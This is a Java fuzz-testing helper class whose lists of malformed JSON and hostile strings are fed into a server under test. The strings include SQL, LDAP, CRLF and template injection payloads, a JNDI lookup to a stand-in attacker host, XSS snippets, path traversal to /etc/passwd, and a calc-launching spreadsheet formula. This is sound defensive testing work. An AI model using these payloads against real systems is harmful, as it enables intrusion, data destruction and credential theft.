package dev.annals.server.fuzz;

import java.util.List;
import java.util.Map;
import java.util.Random;

/** Values that have broken programs before. */
final class Hostile {
    /** Stand in a JSON text for what no JSON writer writes. */
    static final Map<String, String> RAW = Map.ofEntries(
            Map.entry("\"@lone@\"", "\"a\\ud800b\""),
            Map.entry("\"@low@\"", "\"\\udc00\""),
            Map.entry("\"@deep@\"", "[".repeat(5_000) + "]".repeat(5_000)),
            Map.entry("\"@objects@\"", "{\"a\":".repeat(600) + "1" + "}".repeat(600)),
            Map.entry("\"@huge@\"", "1e999999999"),
            Map.entry("\"@tiny@\"", "-1e-999999999"),
            Map.entry("\"@digits@\"", "9".repeat(3_000)),
            Map.entry("\"@fraction@\"", "0." + "3".repeat(900)),
            Map.entry("\"@long@\"", "9223372036854775808"),
            Map.entry("\"@minus@\"", "-9223372036854775809"),
            Map.entry("\"@zero@\"", "-0.0"),
            Map.entry("\"@nan@\"", "NaN"),
            Map.entry("\"@list@\"", "[" + "1,".repeat(20_000) + "1]"));

    private static final List<String> RAW_NAMES =
            RAW.keySet().stream().sorted().map(name -> name.replace("\"", "")).toList();

    private static final List<String> TEXTS = List.of(
            "",
            " ",
            "'",
            "' OR '1'='1",
            "'; DROP TABLE journal.event; --",
            "\" OR 1=1 --",
            "1); SELECT pg_sleep(30); --",
            "%' UNION SELECT password FROM users --",
            "*)(uid=*))(|(uid=*",
            "a\r\nSet-Cookie: x=1",
            "a%0d%0aLocation:%20https://evil.example",
            "${7*7}",
            "#{T(Runtime).getRuntime()}",
            "{{7*7}}",
            "{{#x}}{{/y}}",
            "<%= 7 %>",
            "${jndi:ldap://evil.example/a}",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "javascript:alert(1)",
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "file:///etc/passwd",
            "/dev/zero",
            "=cmd|'/c calc'!A1",
            "a\u0000b",
            "\u0007\u001b[31m",
            "\u202eevil\u2066",
            "\ufeff\ufffe\uffff",
            "\u00c5\u030a\ufdfa".repeat(200),
            "\ud83d\ude00".repeat(50),
            "x".repeat(300),
            "x".repeat(70_000),
            "(".repeat(500),
            "%",
            "%%%s%n%x",
            "_",
            "\\",
            "null",
            "true",
            "NaN",
            "-1",
            "0",
            "2147483648",
            "9223372036854775808",
            "1e400",
            "0x10",
            "1.5",
            "١٢٣",
            "2026-02-30",
            "2026-13-01",
            "9999999-01-01",
            "-999999999-01-01",
            "+1000000000-12-31T23:59:59Z",
            "2026-11-22T25:61:61Z",
            "2026-11-22T10:00:00+99:00",
            "1969-12-31T23:59:59.999999999Z",
            "P999999999999D",
            "PT-1S",
            "PT9223372036854775807S",
            "P1Y",
            "00000000-0000-0000-0000-000000000000",
            "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "customer:",
            "customer:00000000-0000-0000-0000-000000000000",
            "ticket:'",
            ":",
            ",",
            ",,,",
            "-",
            "name,-name,name",
            "eyJhbGciOiJub25lIn0.e30.",
            "AAAA",
            "====",
            "W10=",
            "eyJhIjoxfQ",
            "Asia/Nowhere",
            "zz-ZZ",
            "ADMINISTRATOR",
            "system",
            "__proto__",
            "@class",
            "[object Object]");

    private Hostile() {}

    static String text(Random random) {
        String text = TEXTS.get(random.nextInt(TEXTS.size()));
        return random.nextInt(8) == 0 ? text + TEXTS.get(random.nextInt(TEXTS.size())) : text;
    }

    /** The name of one of {@link #RAW}. */
    static String raw(Random random) {
        return RAW_NAMES.get(random.nextInt(RAW_NAMES.size()));
    }
}
